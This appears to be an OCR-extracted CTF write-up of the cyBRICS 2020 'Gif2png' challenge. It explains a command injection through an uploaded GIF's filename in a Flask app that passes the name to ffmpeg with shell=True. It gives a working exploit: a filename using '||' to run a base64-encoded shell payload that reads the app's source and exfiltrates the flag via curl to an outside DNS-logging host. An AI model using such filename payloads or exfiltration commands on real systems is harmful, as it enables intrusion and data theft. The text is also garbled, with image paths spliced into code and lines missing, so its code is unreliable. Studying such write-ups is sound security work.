cyBRICS CTF 2020 - Gif2png

Resolution of the cyBRICS CTF challenge named Gif2png

July 26, 2020 - 7 minute read -
Ctf Web cyBRICS

CTF Challenge Banner

Gif2Png is an easy web challenge from cyBRICS CTF 2020, an interesting web challenge that teaches you command injection through image’s filename.

The challenge had the following description/details:CTF Challenge Description

A copy of the original web application’s source code is available on: gif2png.tar.gz

The challenge web page:

CTF Challenge WebPage

It seems that the web application slices the gif into frames and display them on the screen:

CTF Challenge Web Page

So now let’s check the source code of the web application to understand how it is done.

This is the source code of the main file, named

import logging
import re
import subprocess
import uuid
from pathlib import Path

from flask import Flask, render_template, request, redirect, url_for, flash, send_from_directory
from flask_bootstrap import Bootstrap
import os
from werkzeug.utils import secure_filename
import filetypeapp = Flask(__name__)
app.config['UPLOAD_FOLDER'] = './uploads'
app.config['SECRET_KEY'] = '***'
app.config['MAX_CONTENT_LENGTH'] = 500 * 1024  # 500Kb
ffLaG = "cybrics{***}"

def allowed_file(filename):
    return '.' in filename and filename.rsplit('.', 1)[1].lower() in ALLOWED_EXTENSIONS

@app.route('/', methods=['GET', 'POST'])
def upload_file():
    if request.method == 'POST':
        if 'file' not in request.files:
            logging.debug('No file part')
            flash('No file part', 'danger')
            return redirect(request.url)

        file = request.files['file']
        if file.filename == '':
            logging.debug('No selected file')
            flash('No selected file', 'danger')
            return redirect(request.url)

        if not allowed_file(file.filename):
            logging.debug(f'Invalid file extension of file: {file.filename}')
            flash('Invalid file extension', 'danger')
            return redirect(request.url)

        if file.content_type != "image/gif":
            logging.debug(f'Invalid Content type: {file.content_type}')
            flash('Content type is not "image/gif"', 'danger')
            return redirect(request.url)if not bool(re.match("^[a-zA-Z0-9_\-. '\"\=\$\(\)\|]*$", file.filename)) or ".." in file.filename:
            logging.debug(f'Invalid symbols in filename: {file.content_type}')
            flash('Invalid filename', 'danger')
            return redirect(request.url)

        if file and allowed_file(file.filename):
            filename = secure_filename(file.filename)
  ['UPLOAD_FOLDER'], file.filename))

            mime_type = filetype.guess_mime(f'uploads/{file.filename}')if mime_type != "image/gif":logging.debug(f'Invalid Mime type: {mime_type}')
                flash('Mime type is not "image/gif"', 'danger')
                return redirect(request.url)

            uid = str(uuid.uuid4())

            logging.debug(f"Created: {uid}. Command: ffmpeg -i 'uploads/{file.filename}' \"uploads/{uid}/%03d.png\"")

            command = subprocess.Popen(f"ffmpeg -i 'uploads/{file.filename}' \"uploads/{uid}/%03d.png\"", shell=True)

            flash('Successfully saved', 'success')
            return redirect(url_for('result', uid=uid))

    return render_template("form.html")

def result(uid):
    images = []
    for image in os.listdir(f"uploads/{uid}"):mime_type = filetype.guess(str(Path("uploads") / uid / image))
        if image.endswith(".png") and mime_type is not None and mime_type.EXTENSION == "png":

    return render_template("result.html", uid=uid, images=images)

def image(uid, image):
    dir = str(Path(app.config['UPLOAD_FOLDER']) / uid)
    return send_from_directory(dir, image)

def request_entity_too_large(error):
    return "File is too large", 413

if __name__ == "__main__":'localhost', port=5000, debug=True, threaded=True)

What caught my attention was the line 104:command = subprocess.Popen(f"ffmpeg -i 'uploads/{file.filename}' \"uploads/{uid}/%03d.png\"", shell=True)

This can be very insecure because the web application is passing an user input to be executed as system command. (file.filename)

There’s a small condition that checks for some characters on filename and blocks the upload:

if not bool(re.match("^[a-zA-Z0-9_\-. '\"\=\$\(\)\|]*$", file.filename)) or ".." in file.filename:
  logging.debug(f'Invalid symbols in filename: {file.content_type}')
  flash('Invalid filename', 'danger')
  return redirect(request.url)

So now we need to exploit this weak point.The very first thing we need to do is stop the actual ffmpeg command and execute another one, to do this we need to escape the ' quotes and append another command.

I found a way to bypass the filename verification using double pipelines to execute my system command, the malicious filename will look something like this:


ffmpeg -i 'uploads/MALICIOUS_NAME'||MALICIOUS SYTEM COMMAND HERE||' "uploads/{uid}/%03d.png\"

There’s a final problem: how to inject system commands through filename and bypass the filename check? Encoding the payload with base64, decoding and executing on the fly!

echo d2hvYW1pO2lkO3NsZWVwIDEw|base64 -d|sh

Unfortunatelly, the challenge server had a firewall blocking reverse shells and requests to the external resources through port 80. So I came with the idea of exfiltrating the flag (inside the through DNS usingflag=$(cat|grep -wo cybrics{.*|base64|tr -d '=');curl $

The flag is extracted from the and sent through DNS using DNSBin, all weneed to do is encode the above command as base64 and rename the file:

The encoded payload:


The 2nd part:

echoZmxhZz0kKGNhdCBtYWluLnB5fGdyZXAgLXdvIGN5YnJpY3N7Lip8YmFzZTY0fHRyIC1kICc9Jyk7Y3VybCAkZmxhZy5iNDQ1YzMwODAxYTg4OTRhMzc0Ny5kLnpoYWNrLmNh|base64 -d|sh

The final filename:

nullarmor'||echo ZmxhZz0kKGNhdCBtYWluLnB5fGdyZXAgLXdvIGN5YnJpY3N7Lip8YmFzZTY0fHRyIC1kICc9Jyk7Y3VybCAkZmxhZy5iNDQ1YzMwODAxYTg4OTRhMzc0Ny5kLnpoYWNrLmNh|base64 -d|sh||'.gif

Now we just renamed a gif file with the malicious filenameand uploaded it on the Gif2png webapplication!

CTF Challenge Exploit

Done, after 5 seconds the base64 encoded flag will be sent through DNS!

CTF ChallengeExploit



CTF Challenge Flag